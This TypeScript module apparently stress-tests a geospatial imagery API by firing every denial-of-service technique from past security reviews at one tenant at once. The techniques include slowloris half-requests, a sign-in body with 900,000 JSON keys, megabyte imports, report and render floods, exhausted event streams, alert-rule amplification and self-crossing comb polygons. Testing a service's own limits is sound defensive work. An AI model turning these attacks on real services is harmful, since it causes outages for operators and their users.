/** Everything that the security reviews tried, at once and without a pause, in the name of one organization. */
import { once } from 'node:events'
import http from 'node:http'
import net from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { caller, count, randomTile, type Tenant } from './tenant-calls.ts'

const MIB = 1024 ** 2
/** Rejected at once: no client could do more with one processor. */
const MIN_PAUSE_MS = 20
/** More than an organization may have, so that the limit is met too. */
const ALERT_RULES = 400
const EVENT_STREAMS = 540
/** Each tooth has four corners: a comb has 243 positions, and two of them cross in the square of their teeth. */
const COMB_TEETH = 60

/** Starts the attack; returns the answers by status, which goes on counting until the process ends. */
export function startAttack(tenant: Tenant): Record<string, number> {
  const answered: Record<string, number> = {}
  const call = caller(tenant)
  const ask = async (id: string, input: object): Promise<void> => count(answered, { [(await call(id, input)).status]: 1 })
  const forever = async (work: () => Promise<unknown>): Promise<void> => {
    for (;;) {
      const began = performance.now()
      await work().catch(() => {})
      if (performance.now() - began < MIN_PAUSE_MS) await sleep(MIN_PAUSE_MS)
    }
  }
  const many = (clients: number, work: () => Promise<unknown>) => {
    for (let n = 0; n < clients; n++) void forever(work)
  }
  const keys = Buffer.from(`{${Array.from({ length: 900_000 }, (_, n) => `"k${n}":1`).join(',')}}`)
  many(60, () => ask('items.tile.statistics', { item_id: tenant.itemId, expression: `(b4-b1)/(b4+b1+${Math.random()})` }))
  many(40, () => ask('items.search', { project_id: tenant.projectId, bbox: [149, -35, 153, -31], limit: 1000 }))
  many(20, () => ask('items.tile.render', randomTile(tenant.itemId)))
  many(10, () => ask('items.list', { project_id: tenant.projectId, limit: 1000 }))
  many(2, () => fetch(`${tenant.baseUrl}/auth/sign-in`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: keys }))
  many(1, () => ask('items.import_stac', { project_id: tenant.projectId, ndjson: 'x\n'.repeat(MIB) }))
  many(200, () => halfRequest(tenant.baseUrl))
  many(20, async () => count(answered, { [await listTools(tenant)]: 1 }))
  many(10, () => ask('reports.generate', { report_type: 'project', project_id: tenant.projectId, format: 'pdf' }))
  many(10, () => ask('orders.tasking.estimate', { groups: [combs()] }))
  many(EVENT_STREAMS, async () => count(answered, { [await openStream(tenant)]: 1 }))
  void alerts(tenant, ask, many)
  return answered
}

/** As many rules as it gets, then copies of a scene, each of which every rule looks at. */
async function alerts(
  tenant: Tenant,
  ask: (id: string, input: object) => Promise<void>,
  many: (clients: number, work: () => Promise<unknown>) => void,
): Promise<void> {
  const rule = { expression: '(b4-b1)/(b4+b1)', comparison: 'gt', threshold: 0, cooldown_minutes: 0, notification_channels: ['in_app'] }
  for (let n = 0; n < ALERT_RULES; n++) await ask('alerts.create_rule', { ...rule, name: `Rule ${n}` }).catch(() => {})
  many(2, () => ask('items.duplicate', { item_id: tenant.itemId, target_project_id: tenant.projectId }))
}

async function listTools({ baseUrl, key }: Tenant): Promise<number> {
  const response = await fetch(`${baseUrl}/mcp`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream', authorization: `Bearer ${key}` },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: {} }),
  })
  await response.arrayBuffer()
  return response.status
}

/** Listens for as long as the service lets it. */
async function openStream({ baseUrl, key }: Tenant): Promise<number> {
  const request = http.get(`${baseUrl}/v1/events`, { agent: false, headers: { authorization: `Bearer ${key}` } })
  const [response] = (await once(request, 'response')) as [http.IncomingMessage]
  response.resume()
  await once(response, 'close')
  await sleep(1_000)
  return response.statusCode!
}

type Ring = [number, number][]

/** Two areas that cross each other thousands of times, each valid by itself and within the limit on vertices. */
function combs(): object {
  const span = 0.05
  const step = span / COMB_TEETH
  const teeth: Ring = Array.from({ length: COMB_TEETH }, (_, n): Ring => {
    const at = n * step
    return [
      [at, 0.002],
      [at, span],
      [at + step / 2, span],
      [at + step / 2, 0.002],
    ]
  }).flat()
  const upright: Ring = [...teeth, [span, 0.002], [span, 0], [0, 0], [0, 0.002]]
  const lying = upright.map(([x, y]): [number, number] => [y, x])
  const feature = (ring: Ring) => ({
    type: 'Feature',
    properties: {},
    geometry: { type: 'Polygon', coordinates: [ring.map(([x, y]) => [151 + x, -33.5 + y])] },
  })
  const start = Date.now() + 86_400_000
  return {
    dataProduct: 'sandbox-vhr-tasking',
    featureCollection: { type: 'FeatureCollection', features: [feature(upright), feature(lying)] },
    params: { acquisitionStart: new Date(start).toISOString(), acquisitionEnd: new Date(start + 30 * 86_400_000).toISOString() },
  }
}

async function halfRequest(baseUrl: string): Promise<void> {
  const socket = net.connect(Number(new URL(baseUrl).port), '127.0.0.1')
  socket.on('error', () => {})
  socket.write('POST /v1/op/projects.list HTTP/1.1\r\nHost: x\r\nX-Slow: ')
  await once(socket, 'close')
  await sleep(1_000)
}
